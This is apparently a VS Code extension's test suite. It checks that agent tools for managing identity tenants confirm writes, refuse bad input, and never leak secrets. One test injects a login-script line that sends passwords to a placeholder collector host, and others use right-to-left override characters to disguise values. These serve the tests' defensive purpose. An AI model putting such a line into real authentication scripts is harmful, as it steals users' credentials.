// The agent tools in real VS Code, called through vscode.lm.invokeTool (no model) against the emulator: every read
// tool's answer, every write tool's confirmation (prepareInvocation, called on the tool object the table builds
// for the live services) and its effect on the emulator, refusals of bad input before any API request, the missing
// scope named, and no secret in any tool result.
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { DEMO_APPLICATION_IDS as A } from '../../src/emulator/seed/applications';
import { DEMO_API_IDS, SYSTEM_API_ID } from '../../src/emulator/seed/resourceServers';
import { seededSecret } from '../../src/emulator/routes/clientShape';
import { DEMO_ACTION_IDS, DEMO_CONNECTION_IDS as C, DEMO_EVENT_IDS, DEMO_EVENT_STREAM_IDS as S } from '../../src/emulator/seed/ids';
import type { Services } from '../../src/services';
import { EMULATOR_TENANT_ID } from '../../src/tenants/emulator';
import type { ExtensionApi } from '../../src/extension';
import { resultText, type LmTool } from '../../src/tools/lmApi';
import { emulator, emulatorUrl } from './helpers/emulator';
import { until } from './helpers/documents';
import { EXTENSION_ID } from './helpers/extension';
import { ScriptedPrompts } from './helpers/scriptedPrompts';
import { cleanTenant, requestsSince, writesOf } from './reliability/support';

/** The webhook secret set on a stream here: no tool result may contain it (the harness's scan looks for it too). */
const WEBHOOK_SECRET = 'agent-tools-bearer-api-key-5e8c2a';
const SAML_DECRYPTION_SECRET = 'saml-decryption-private-5b2d';
const SAML_SIGNING_SECRET = 'saml-signing-private-0e7a';
const CUSTOM_DB_SECRET = 'custom-db-password-c3f9';
const SECRETS = [seededSecret(A.customerPortal), 'demo-inventory-signing-secret-0001', WEBHOOK_SECRET, 'emulator-admin-secret', 'emulator-readonly-secret', 'demo-gateway-secret', SAML_DECRYPTION_SECRET, SAML_SIGNING_SECRET, CUSTOM_DB_SECRET];
const JWT = /eyJ[\w-]{10,}\.[\w-]{10,}\.[\w-]*/;
const ONE = 'POST /api/v2/event-streams/:id/redeliver/:event_id';
const BULK = 'POST /api/v2/event-streams/:id/redeliver';
const USER = 'user-lifecycle-webhook';

interface Lm {
  invokeTool(name: string, options: { input: unknown; toolInvocationToken: undefined }): Thenable<unknown>;
  tools: readonly { name: string }[];
}
const lm = () => (vscode as unknown as { lm: Lm }).lm;

/** Connection options without `gateway_authentication` (the demo database's holds a secret). */
const withoutGatewaySecret = (options: Row): Row => Object.fromEntries(Object.entries(options).filter(([k]) => k !== 'gateway_authentication'));

/** Every text a tool answered or refused with in this suite, for the secrets check at the end. */
const seen: string[] = [];

async function invoke(name: string, input: unknown): Promise<string> {
  const text = resultText(await lm().invokeTool(`authTenants_${name}`, { input, toolInvocationToken: undefined }));
  seen.push(text);
  return text;
}

/** The tool's refusal: the message it failed with. */
async function refusal(name: string, input: unknown): Promise<string> {
  try {
    await invoke(name, input);
  } catch (err) {
    const message = err instanceof Error ? err.message : String(err);
    seen.push(message);
    return message;
  }
  assert.fail(`${name} was expected to refuse`);
}

const token = new vscode.CancellationTokenSource().token;

/** The confirmation VS Code shows before a write tool runs. */
async function tools(): Promise<ReadonlyMap<string, LmTool<unknown>>> {
  const api = await vscode.extensions.getExtension<ExtensionApi>(EXTENSION_ID)!.activate();
  assert.ok(api.tools, 'the test seam exposes the tools');
  return api.tools;
}

async function confirmation(name: string, input: unknown): Promise<{ title: string; message: string }> {
  const tool = (await tools()).get(`authTenants_${name}`);
  assert.ok(tool?.prepareInvocation, `${name} has prepareInvocation`);
  const prepared = await tool.prepareInvocation({ input }, token);
  const c = prepared!.confirmationMessages!;
  const text = { title: String(c.title), message: typeof c.message === 'string' ? c.message : c.message.value };
  seen.push(text.title, text.message);
  return text;
}

/** API requests (not token requests) since `before`. */
const apiRequests = (byRoute: Record<string, number>) => Object.keys(byRoute).filter((r) => / \/api\/v2\//.test(r));

const json = <T>(text: string) => JSON.parse(text) as T;
type Row = Record<string, unknown>;

describe('Agent tools (vscode.lm.invokeTool)', function () {
  this.timeout(60_000);
  let s: Services;

  beforeEach(async () => {
    ({ s } = await cleanTenant(true));
  });

  // The next suites start from the demo data and the emulator tenant alone (streams were deleted, a tenant added here).
  after(async () => {
    await cleanTenant(false);
  });

  it('are all registered with VS Code, one per row of the table; exactly the write tools confirm', async () => {
    const names = new Set(lm().tools.map((t) => t.name));
    const table = await tools();
    assert.equal(table.size, 18);
    for (const name of table.keys()) assert.ok(names.has(name), `${name} is registered`);
    const confirming = [...table].filter(([, t]) => t.prepareInvocation).map(([n]) => n.replace('authTenants_', '')).sort();
    assert.deepEqual(confirming, ['createTokenExchangeProfile', 'deleteEventStream', 'deployAction', 'redeliver', 'setEventStreamStatus', 'setPhoneFactors', 'testAction', 'updateActionCode', 'updateApiScopes', 'updateApplicationUrls', 'updateConnection']);
  });

  describe('read tools', () => {
    it('listTenants names the tenant, its environment and whether it is production', async () => {
      const tenants = json<Row[]>(await invoke('listTenants', {}));
      assert.deepEqual(tenants.map((t) => [t.label, t.id, t.environment, t.production]), [['Local emulator', EMULATOR_TENANT_ID, 'development', false]]);
    });

    it('listResources pages connections with the cursor it returns, and says which allow signups', async () => {
      const ids: string[] = [];
      let cursor: string | undefined;
      let pages = 0;
      do {
        const page = json<{ items: Row[]; nextCursor?: string }>(await invoke('listResources', { tenant: 'local emulator', kind: 'connections', limit: 4, ...(cursor ? { cursor } : {}) }));
        assert.ok(page.items.length <= 4);
        ids.push(...page.items.map((r) => String(r.id)));
        if (page.items.some((r) => r.id === C.database)) assert.equal(page.items.find((r) => r.id === C.database)!.signups_allowed, true);
        if (page.items.some((r) => r.id === C.partnersDb)) assert.equal(page.items.find((r) => r.id === C.partnersDb)!.signups_allowed, false);
        cursor = page.nextCursor;
        pages++;
      } while (cursor && pages < 10);
      assert.ok(pages >= 3, 'several pages');
      assert.deepEqual([...ids].sort(), [...Object.values(C)].sort(), 'every connection once');
      assert.match(await refusal('listResources', { tenant: 'Local emulator', kind: 'event-streams', cursor: 'not-ours' }), /cursor is not one this tool returned/);
    });

    it('listResources lists the other kinds as short rows', async () => {
      const streams = json<{ items: Row[] }>(await invoke('listResources', { tenant: EMULATOR_TENANT_ID, kind: 'event-streams' }));
      assert.deepEqual(streams.items.map((r) => r.id).sort(), Object.values(S).sort());
      assert.equal(streams.items.find((r) => r.id === S.userWebhook)!.destination, 'webhook');
      for (const kind of ['token-exchange-profiles', 'verification-templates', 'vault-connections']) {
        const page = json<{ kind: string; items: Row[] }>(await invoke('listResources', { tenant: 'Local emulator', kind }));
        assert.equal(page.kind, kind);
        assert.ok(page.items.every((r) => typeof r.id === 'string' && r.name !== undefined), kind);
      }
    });

    it('getResource and the connection editor never show a SAML decryption or signing key, nor a custom database\'s configuration value', async () => {
      const options = {
        signInEndpoint: 'https://idp.example.com/sso', signingCert: 'PUBLIC-CERT',
        decryptionKey: { cert: 'DECRYPT-CERT', key: SAML_DECRYPTION_SECRET }, signing_key: { cert: 'SIGNING-CERT', key: SAML_SIGNING_SECRET },
        configuration: { DB_PASSWORD: CUSTOM_DB_SECRET },
      };
      const created = await emulator.api<Row>('POST', 'connections', { name: 'corp-saml-keys', strategy: 'samlp', options });
      assert.equal(created.status, 201, JSON.stringify(created.body));
      const id = String(created.body.id);
      const stored = (await emulator.api<{ options: Row }>('GET', `connections/${id}`)).body.options;
      assert.deepEqual(stored.decryptionKey, options.decryptionKey, 'the tenant answers the key: only the extension can leave it out');
      try {
        const answer = await invoke('getResource', { tenant: 'Local emulator', kind: 'connections', id });
        assert.match(answer, /idp\.example\.com/, 'the other options are answered');
        const prompts = new ScriptedPrompts();
        s.prompts.current = prompts;
        prompts.script({ kind: 'pick', value: 'corp-saml-keys' });
        const uri = await vscode.commands.executeCommand<vscode.Uri>('authTenants.editConnection');
        assert.ok(uri instanceof vscode.Uri, JSON.stringify(prompts.notices));
        const document = await until('the document', () => vscode.workspace.textDocuments.find((d) => d.uri.toString() === uri.toString()));
        assert.match(document.getText(), /idp\.example\.com/, 'the document shows the other options');
        for (const secret of [SAML_DECRYPTION_SECRET, SAML_SIGNING_SECRET, CUSTOM_DB_SECRET]) {
          assert.ok(!answer.includes(secret), `${secret.slice(0, 12)}… is in the getResource answer`);
          assert.ok(!document.getText().includes(secret), `${secret.slice(0, 12)}… is in the editor document`);
        }
      } finally {
        await vscode.commands.executeCommand('workbench.action.closeAllEditors');
        await emulator.api('DELETE', `connections/${id}`);
      }
    });

    it('getResource answers the editor document (no secret) and refuses an unknown id', async () => {
      assert.equal((await emulator.api('PATCH', `event-streams/${S.userWebhook}`, {
        destination: { type: 'webhook', configuration: { webhook_endpoint: 'https://hooks.example.com/agent', webhook_authorization: { method: 'bearer', token: WEBHOOK_SECRET } } },
      })).status, 200);
      const stream = json<{ name: string; document: Row }>(await invoke('getResource', { tenant: 'Local emulator', kind: 'event-streams', id: S.userWebhook }));
      assert.equal(stream.name, USER);
      assert.ok(stream.document.destination, 'the document holds the destination');
      const connection = json<{ name: string; details: string[]; document: Row }>(await invoke('getResource', { tenant: 'Local emulator', kind: 'connections', id: C.database }));
      assert.equal(connection.name, 'Username-Password-Authentication');
      assert.deepEqual(connection.details, ['strategy auth0']);
      assert.equal(connection.document.name, undefined, 'name is not part of the document');
      assert.equal(typeof connection.document.options, 'object');
      assert.match(await refusal('getResource', { tenant: 'Local emulator', kind: 'connections', id: 'con_doesNotExist0001' }), /has no connection with the id con_doesNotExist0001/);
    });

    it('listFailedDeliveries lists a stream\'s failed deliveries by name, filtered by event type', async () => {
      const all = json<{ failed: Row[] }>(await invoke('listFailedDeliveries', { tenant: 'Local emulator', stream: USER }));
      assert.deepEqual(all.failed.map((d) => d.eventId).sort(), [...DEMO_EVENT_IDS.userWebhook.failed].sort());
      assert.ok(all.failed.every((d) => typeof d.eventType === 'string' && Number(d.attempts) > 0));
      const type = String(all.failed[0]!.eventType);
      const some = json<{ failed: Row[] }>(await invoke('listFailedDeliveries', { tenant: 'Local emulator', stream: S.userWebhook, eventTypes: [type] }));
      assert.ok(some.failed.length > 0 && some.failed.every((d) => d.eventType === type));
    });

    it('refuses a bad filter or an unknown tenant before any API request', async () => {
      const before = await emulator.stats();
      assert.match(await refusal('listFailedDeliveries', { tenant: 'Local emulator', stream: S.userWebhook, eventTypes: ['user.exploded'] }), /Invalid delivery filter/);
      assert.match(await refusal('listFailedDeliveries', { tenant: 'Local emulator', stream: S.userWebhook, from: '2025-08-02T00:00:00Z', to: '2025-08-01T00:00:00Z' }), /Invalid delivery filter/);
      assert.match(await refusal('listResources', { tenant: 'Staging', kind: 'connections' }), /No tenant is named "Staging"\. Known tenants: Local emulator/);
      assert.match(await refusal('listResources', { tenant: 'Local emulator', kind: 'users' }), /Invalid input for authTenants_listResources: kind/);
      assert.deepEqual(apiRequests(await requestsSince(before)), []);
    });
  });

  describe('write tools', () => {
    it('setPhoneFactors confirms before → after naming the tenant, then sets them; an unknown type is refused before any request', async () => {
      await emulator.api('PUT', 'guardian/factors/phone/message-types', { message_types: ['sms'] });
      const c = await confirmation('setPhoneFactors', { tenant: 'Local emulator', message_types: ['sms', 'voice'] });
      assert.match(c.title, /Set the phone factors on Local emulator$/);
      assert.match(c.message, /^Tenant: Local emulator \(.+, development\)\nPhone factors \(message types\): sms → sms, voice$/);
      assert.match(await invoke('setPhoneFactors', { tenant: 'Local emulator', message_types: ['sms', 'voice'] }), /Phone factors of Local emulator are now \[sms, voice\]/);
      assert.deepEqual((await emulator.api<{ message_types: string[] }>('GET', 'guardian/factors/phone/message-types')).body.message_types, ['sms', 'voice']);

      const before = await emulator.stats();
      assert.match(await refusal('setPhoneFactors', { tenant: 'Local emulator', message_types: ['sms', 'fax'] }), /Setting the phone factors refused, nothing was sent: message_types\[1\]: /);
      assert.match(await refusal('setPhoneFactors', { tenant: 'Local emulator', message_types: ['voice', 'sms'] }), /already \[sms, voice\]\. Nothing was sent/);
      assert.deepEqual(writesOf(await requestsSince(before)), {});
    });

    it('sends nothing when the resource changed between the confirmation and the run', async () => {
      await emulator.api('PUT', 'guardian/factors/phone/message-types', { message_types: ['sms'] });
      const input = { tenant: 'Local emulator', message_types: ['voice'] };
      assert.match((await confirmation('setPhoneFactors', input)).message, /sms → voice/);
      await emulator.api('PUT', 'guardian/factors/phone/message-types', { message_types: [] });
      const before = await emulator.stats();
      // invoke on the registered tool object, as VS Code does once the user accepted the confirmation
      // (lm.invokeTool without a chat prepares again first, so it never runs on a stale confirmation).
      const tool = (await tools()).get('authTenants_setPhoneFactors')!;
      await assert.rejects(tool.invoke({ input }, token), (err: Error) => {
        seen.push(err.message);
        assert.match(err.message, /Nothing was sent: the resource changed on the server after the user confirmed/);
        return true;
      });
      assert.deepEqual(writesOf(await requestsSince(before)), {});
      assert.deepEqual((await emulator.api<{ message_types: string[] }>('GET', 'guardian/factors/phone/message-types')).body.message_types, []);
    });

    it('updateConnection confirms the exact change list and applies it; the editor\'s checks refuse bad values without a write', async () => {
      const { body: current } = await emulator.api<{ options: Row }>('GET', `connections/${C.partnersDb}`);
      const changes = { options: { ...current.options, disable_signup: false }, show_as_button: true };
      const c = await confirmation('updateConnection', { tenant: 'Local emulator', connection: 'partners-db', changes });
      assert.match(c.title, /Update the connection "partners-db" on Local emulator/);
      assert.match(c.message, new RegExp(`Connection: partners-db \\(${C.partnersDb.replace('_', '\\\\_')}, strategy auth0\\) {2}\\nChanges: {2}\\n`));
      assert.match(c.message, /\*\*options\.disable\\_signup\*\*\n\nNow:\n\n```text\ntrue\n```\n\nAfter:\n\n```text\nfalse\n```/);
      assert.match(c.message, /\*\*show\\_as\\_button\*\*\n\nNow:\n\n```text\n(false|\(not set\))\n```\n\nAfter:\n\n```text\ntrue\n```/);
      assert.match(await invoke('updateConnection', { tenant: 'Local emulator', connection: C.partnersDb, changes }), /Updated the connection partners-db on Local emulator: .*options\.disable_signup/);
      const { body: after } = await emulator.api<{ options: Row; show_as_button: boolean; display_name: string }>('GET', `connections/${C.partnersDb}`);
      assert.equal(after.options.disable_signup, false);
      assert.equal(after.options.brute_force_protection, true, 'the other options are kept');
      assert.equal(after.show_as_button, true);
      assert.equal(after.display_name, 'Partner portal', 'display_name is kept');

      const before = await emulator.stats();
      assert.match(await refusal('updateConnection', { tenant: 'Local emulator', connection: C.partnersDb, changes: { name: 'renamed' } }), /These fields cannot be changed here: name\./);
      assert.match(await refusal('updateConnection', { tenant: 'Local emulator', connection: C.partnersDb, changes: { display_name: 'x'.repeat(200) } }), /Updating the connection partners-db refused, nothing was sent: display_name: /);
      assert.match(await refusal('updateConnection', { tenant: 'Local emulator', connection: C.partnersDb, changes: { show_as_button: true } }), /No changes to apply/);
      assert.deepEqual(writesOf(await requestsSince(before)), {});
    });

    it('updateConnection: a custom database script change is confirmed in full; invoked without a recorded confirmation it refuses and sends nothing', async () => {
      const { document } = json<{ document: { options: Row & { customScripts: Record<string, string> } } }>(await invoke('getResource', { tenant: 'Local emulator', kind: 'connections', id: C.database }));
      const scripts = document.options.customScripts;
      const login = scripts.login!.replace('  return', `  fetch("https://collector.example/${'p'.repeat(120)}?p=" + password);\n  return`);
      const input = { tenant: 'Local emulator', connection: C.database, changes: { options: { ...document.options, customScripts: { ...scripts, login } } } };
      const tool = (await tools()).get('authTenants_updateConnection')!;
      const before = await emulator.stats();
      // invoke on the registered tool object as VS Code would, but with no prepareInvocation before it
      await assert.rejects(tool.invoke({ input }, token), (err: Error) => {
        seen.push(err.message);
        assert.match(err.message, /^Nothing was sent: the user has not confirmed this change/);
        return true;
      });
      assert.deepEqual(apiRequests(await requestsSince(before)), [], 'not even a read');

      const c = await confirmation('updateConnection', input);
      assert.ok(c.message.includes(`**options.customScripts.login**\n\nNow:\n\n\`\`\`text\n${scripts.login}\n\`\`\`\n\nAfter:\n\n\`\`\`text\n${login}\n\`\`\``), 'both scripts in full, line by line');
      assert.doesNotMatch(c.message, /…/);
      assert.match(await tool.invoke({ input }, token).then((r) => resultText(r)), /Updated the connection Username-Password-Authentication on Local emulator: options\.customScripts\.login\./);
      assert.equal((await emulator.api<{ options: { customScripts: { login: string } } }>('GET', `connections/${C.database}`)).body.options.customScripts.login, login);
      const again = await emulator.stats();
      await assert.rejects(tool.invoke({ input }, token), /the user has not confirmed this change/, 'a confirmation is used once');
      assert.deepEqual(apiRequests(await requestsSince(again)), []);

      const hidden = await emulator.stats();
      assert.match(await refusal('updateConnection', { tenant: 'Local emulator', connection: C.database, changes: { display_name: 'Email\u202E drowssap' } }), /characters a confirmation cannot show/);
      assert.deepEqual(writesOf(await requestsSince(hidden)), {});
    });

    it('updateConnection keeps the options guard: without update:connections_options an options change is refused with the editor\'s message', async () => {
      await s.registry.save(
        { id: 'agent-no-options', label: 'No options scope', domain: emulatorUrl(), environment: 'staging', method: 'access-token' },
        { accessToken: await emulator.token('emulator-admin', 'emulator-admin-secret', 'read:connections update:connections read:connections_options') },
      );
      const { body: current } = await emulator.api<{ options: Row }>('GET', `connections/${C.database}`);
      const before = await emulator.stats();
      assert.match(await refusal('listResources', { tenant: 'No options scope', kind: 'event-streams' }), /The token for No options scope lacks the scope read:event_streams/);
      assert.match(await refusal('listFailedDeliveries', { tenant: 'No options scope', stream: USER }), /lacks the scope read:event_deliveries/);
      assert.match(
        // Without the gateway secret of the demo options: VS Code logs a failed tool call's parameters.
        await refusal('updateConnection', { tenant: 'No options scope', connection: C.database, changes: { options: { ...withoutGatewaySecret(current.options), brute_force_protection: false } } }),
        /refused, nothing was sent: options: Changing options needs the scope update:connections_options, which this token lacks/,
      );
      assert.deepEqual(writesOf(await requestsSince(before)), {});
      const c = await confirmation('updateConnection', { tenant: 'No options scope', connection: C.database, changes: { display_name: 'Email & password' } });
      assert.match(c.message, /^Tenant: No options scope \(.+, staging\) {2}\n/);
      assert.match(await invoke('updateConnection', { tenant: 'No options scope', connection: C.database, changes: { display_name: 'Email & password' } }), /Updated the connection/);
      assert.equal((await emulator.api<{ display_name: string }>('GET', `connections/${C.database}`)).body.display_name, 'Email & password');
    });

    it('a token without the write scope is refused, naming the scope, before any write', async () => {
      const profile = s.registry.get(EMULATOR_TENANT_ID)!;
      await s.registry.save({ ...profile, clientId: 'emulator-readonly' }, { clientSecret: 'emulator-readonly-secret' });
      const before = await emulator.stats();
      assert.match(await refusal('setPhoneFactors', { tenant: 'Local emulator', message_types: ['sms', 'voice'] }), /lacks the scope update:guardian_factors, which this tool needs; nothing was sent/);
      assert.match(await refusal('deleteEventStream', { tenant: 'Local emulator', stream: USER }), /lacks the scope delete:event_streams/);
      assert.deepEqual(writesOf(await requestsSince(before)), {});
    });

    it('createTokenExchangeProfile confirms the profile and creates it; the draft\'s checks refuse bad input before any request', async () => {
      const input = { tenant: 'Local emulator', name: 'Agent profile', subject_token_type: 'urn:agent:session-token', action_id: DEMO_ACTION_IDS.cteDeployed };
      const c = await confirmation('createTokenExchangeProfile', input);
      assert.match(c.title, /Create the token exchange profile "Agent profile" on Local emulator/);
      assert.match(c.message, /name: Agent profile\nsubject_token_type: urn:agent:session-token\naction_id: c7e00000-0000-4000-8000-000000000001 \(.+\)\ntype: custom_authentication/);
      assert.match(await invoke('createTokenExchangeProfile', input), /Created the token exchange profile Agent profile \(tep_\w+\) on Local emulator/);
      const { body } = await emulator.api<{ token_exchange_profiles: Row[] }>('GET', 'token-exchange-profiles');
      assert.ok(body.token_exchange_profiles.some((p) => p.subject_token_type === 'urn:agent:session-token' && p.name === 'Agent profile'));

      let before = await emulator.stats();
      // A written value holding a direction mark cannot be confirmed exactly (an identifying name would be shown cleaned).
      assert.match(await refusal('createTokenExchangeProfile', { ...input, name: 'Agent\u202E eliforp', subject_token_type: 'urn:agent:other-token' }), /characters a confirmation cannot show/);
      assert.deepEqual(writesOf(await requestsSince(before)), {});
      before = await emulator.stats();
      assert.match(await refusal('createTokenExchangeProfile', { ...input, subject_token_type: 'urn:auth0:mine' }), /Creating the token exchange profile refused, nothing was sent: subject_token_type: .*reserved/);
      assert.match(await refusal('createTokenExchangeProfile', { ...input, name: 'ab' }), /refused, nothing was sent: name: /);
      assert.deepEqual(apiRequests(await requestsSince(before)), [], 'no request for input that fails the draft\'s own checks');
      before = await emulator.stats();
      assert.match(await refusal('createTokenExchangeProfile', { ...input, subject_token_type: 'urn:agent:other', action_id: DEMO_ACTION_IDS.cteNotDeployed }), /action_id: .*not deployed/i);
      assert.match(await refusal('createTokenExchangeProfile', input), /already uses the subject_token_type urn:agent:session-token/);
      assert.deepEqual(writesOf(await requestsSince(before)), {});
    });

    it('redeliver: chosen failed events, then a filter; each confirmed with the events; unknown ids and bad filters are refused', async () => {
      const [first, second] = DEMO_EVENT_IDS.userWebhook.failed;
      const byIds = { tenant: 'Local emulator', stream: USER, eventIds: [first, second] };
      const c = await confirmation('redeliver', byIds);
      assert.match(c.title, /Redeliver 2 failed event\(s\) of "user-lifecycle-webhook" on Local emulator/);
      assert.match(c.message, new RegExp(`Events redelivered: ${first}, ${second}`));
      let before = await emulator.stats();
      assert.match(await invoke('redeliver', byIds), /Redelivery requested for 2 of 2 event\(s\)/);
      assert.deepEqual(writesOf(await requestsSince(before)), { [ONE]: 2 });

      before = await emulator.stats();
      assert.match(await refusal('redeliver', { ...byIds, eventIds: [DEMO_EVENT_IDS.userWebhook.pending] }), /has no failed delivery with the id evt_demoUserPending0000001: nothing was sent/);
      assert.match(await refusal('redeliver', { ...byIds, eventIds: ['evt_short'] }), /Invalid event id/);
      assert.match(await refusal('redeliver', { tenant: 'Local emulator', stream: USER, eventTypes: ['user.exploded'] }), /Invalid redelivery filter/);
      assert.match(await refusal('redeliver', { ...byIds, eventTypes: ['user.created'] }), /either eventIds or a filter/);
      assert.deepEqual(writesOf(await requestsSince(before)), {});

      const failed = json<{ failed: Row[] }>(await invoke('listFailedDeliveries', { tenant: 'Local emulator', stream: USER }));
      const type = String(failed.failed[0]!.eventType);
      const count = failed.failed.filter((d) => d.eventType === type).length;
      const filter = { tenant: 'Local emulator', stream: S.userWebhook, eventTypes: [type] };
      const f = await confirmation('redeliver', filter);
      assert.match(f.message, new RegExp(`Filter: failed deliveries, event types ${type.replace('.', '\\.')}\\nMatching now: ${count} event\\(s\\)`));
      before = await emulator.stats();
      assert.match(await invoke('redeliver', filter), /Redelivery requested for the failed events of user-lifecycle-webhook/);
      assert.deepEqual(writesOf(await requestsSince(before)), { [BULK]: 1 });
    });

    it('setEventStreamStatus disables and enables a stream; a production tenant is marked in the confirmation', async () => {
      await s.registry.save({ ...s.registry.get(EMULATOR_TENANT_ID)!, environment: 'production' });
      const input = { tenant: 'Local emulator', stream: USER, status: 'disabled' };
      const c = await confirmation('setEventStreamStatus', input);
      assert.match(c.title, /Disable the event stream "user-lifecycle-webhook" on Local emulator \(PRODUCTION\)/);
      assert.match(c.message, /^Tenant: Local emulator \(.+\) — PRODUCTION\nEvent stream: user-lifecycle-webhook \(est_demoUserLifecycle00001, webhook\)\nstatus: enabled → disabled/);
      assert.match(await invoke('setEventStreamStatus', input), /is now disabled/);
      assert.equal((await emulator.api<{ status: string }>('GET', `event-streams/${S.userWebhook}`)).body.status, 'disabled');
      const before = await emulator.stats();
      assert.match(await refusal('setEventStreamStatus', input), /already disabled\. Nothing was sent/);
      assert.deepEqual(writesOf(await requestsSince(before)), {});
      await invoke('setEventStreamStatus', { ...input, status: 'enabled' });
      assert.equal((await emulator.api<{ status: string }>('GET', `event-streams/${S.userWebhook}`)).body.status, 'enabled');
    });

    it('updateApplicationUrls confirms the exact list changes naming the application and tenant, applies them; the editor\'s URL rules refuse without a write', async () => {
      const input = { tenant: 'Local emulator', application: 'Customer Portal', add: { callbacks: ['https://*.portal.example.com/callback'], web_origins: ['https://www.portal.example.com'] }, remove: { allowed_logout_urls: ['https://portal.example.com/'] } };
      const { body: current } = await emulator.api<Row>('GET', `clients/${A.customerPortal}`);
      assert.ok((current.allowed_logout_urls as string[]).includes('https://portal.example.com/'), 'the seed has the logout URL removed here');
      const c = await confirmation('updateApplicationUrls', input);
      assert.match(c.title, /Update the application "Customer Portal" on Local emulator/);
      assert.match(c.message, new RegExp(`^Tenant: Local emulator \\(.+\\)[^\\n]*\\nApplication: Customer Portal \\(${A.customerPortal}, Regular web app`));
      assert.match(c.message, /\*\*callbacks\*\*/);
      assert.match(c.message, /https:\/\/\*\.portal\.example\.com\/callback/);
      assert.match(c.message, /\*\*allowed\\_logout\\_urls\*\*/);
      const result = await invoke('updateApplicationUrls', input);
      assert.match(result, /Updated the application Customer Portal on Local emulator: .*callbacks/);
      const { body: after } = await emulator.api<Row>('GET', `clients/${A.customerPortal}`);
      assert.deepEqual(after.callbacks, [...(current.callbacks as string[]), 'https://*.portal.example.com/callback']);
      assert.ok((after.web_origins as string[]).includes('https://www.portal.example.com'));
      assert.ok(!(after.allowed_logout_urls as string[]).includes('https://portal.example.com/'));
      assert.equal(after.name, 'Customer Portal', 'the rest is kept');

      const before = await emulator.stats();
      assert.match(await refusal('updateApplicationUrls', { tenant: 'Local emulator', application: A.customerPortal, add: { web_origins: ['https://portal.example.com/path'], callbacks: ['https://a.example.com/*'] } }),
        /Updating the URLs of the application Customer Portal refused, nothing was sent: callbacks: "https:\/\/a\.example\.com\/\*" has a wildcard where the service takes none.*; web_origins: "https:\/\/portal\.example\.com\/path" is an origin/);
      assert.match(await refusal('updateApplicationUrls', { tenant: 'Local emulator', application: 'Customer Portal', remove: { callbacks: ['https://never.example.com/cb'] } }), /callbacks: "https:\/\/never\.example\.com\/cb" is not listed/);
      assert.match(await refusal('updateApplicationUrls', { tenant: 'Local emulator', application: 'No Such App', add: { callbacks: ['https://x.example.com/cb'] } }), /has no application "No Such App"/);
      assert.deepEqual(writesOf(await requestsSince(before)), {});
    });

    it('updateApiScopes adds and removes scopes on a production tenant, marked in the confirmation; existing values and the system API are refused', async () => {
      await s.registry.save({ ...s.registry.get(EMULATOR_TENANT_ID)!, environment: 'production' });
      const input = { tenant: 'Local emulator', api: 'urn:example:inventory', add: [{ value: 'audit:stock', description: 'Audit stock levels' }], remove: ['write:stock'] };
      const c = await confirmation('updateApiScopes', input);
      assert.match(c.title, /Update the API "Inventory API" on Local emulator \(PRODUCTION\)/);
      assert.match(c.message, /^Tenant: Local emulator \(.+\) — PRODUCTION {2}\nAPI: Inventory API \(64f0a1b2c3d4e5f600000002/);
      assert.match(c.message, /audit:stock/);
      const result = await invoke('updateApiScopes', input);
      assert.match(result, /Updated the API Inventory API on Local emulator: scopes/);
      assert.deepEqual((await emulator.api<{ scopes: Row[] }>('GET', `resource-servers/${DEMO_API_IDS.inventory}`)).body.scopes,
        [{ value: 'read:stock', description: 'Read stock levels' }, { value: 'audit:stock', description: 'Audit stock levels' }]);

      const before = await emulator.stats();
      assert.match(await refusal('updateApiScopes', { tenant: 'Local emulator', api: 'Inventory API', add: [{ value: 'read:stock', description: 'x' }] }), /the scope "read:stock" already exists/);
      assert.match(await refusal('updateApiScopes', { tenant: 'Local emulator', api: DEMO_API_IDS.inventory, add: [{ value: 'x'.repeat(281) }] }), /Updating the API Inventory API refused, nothing was sent: scopes/);
      assert.match(await refusal('updateApiScopes', { tenant: 'Local emulator', api: SYSTEM_API_ID, add: [{ value: 'y' }] }), /system API/);
      assert.deepEqual(writesOf(await requestsSince(before)), {});
    });

    it('deleteEventStream confirms that it cannot be undone, then deletes the stream', async () => {
      const c = await confirmation('deleteEventStream', { tenant: 'Local emulator', stream: S.orgEventBridge });
      assert.match(c.title, /Delete the event stream "org-events-eventbridge" on Local emulator/);
      assert.match(c.message, /cannot be undone/);
      assert.match(await invoke('deleteEventStream', { tenant: 'Local emulator', stream: 'org-events-eventbridge' }), /Deleted the event stream org-events-eventbridge/);
      assert.equal((await emulator.api('GET', `event-streams/${S.orgEventBridge}`)).status, 404);
      assert.match(await refusal('deleteEventStream', { tenant: 'Local emulator', stream: 'org-events-eventbridge' }), /has no event stream "org-events-eventbridge"/);
    });
  });

  describe('secrets', () => {
    it('no tool result, confirmation or refusal of this suite holds a secret or a token', () => {
      assert.ok(seen.length > 40, 'the results were collected');
      const found = seen.flatMap((text) => [...SECRETS.filter((x) => text.includes(x)), ...(JWT.test(text) ? ['a JWT'] : [])]);
      assert.deepEqual(found, []);
      assert.ok(seen.some((t) => t.includes('user-lifecycle-webhook')), 'the scan read the stream results');
    });
  });
});
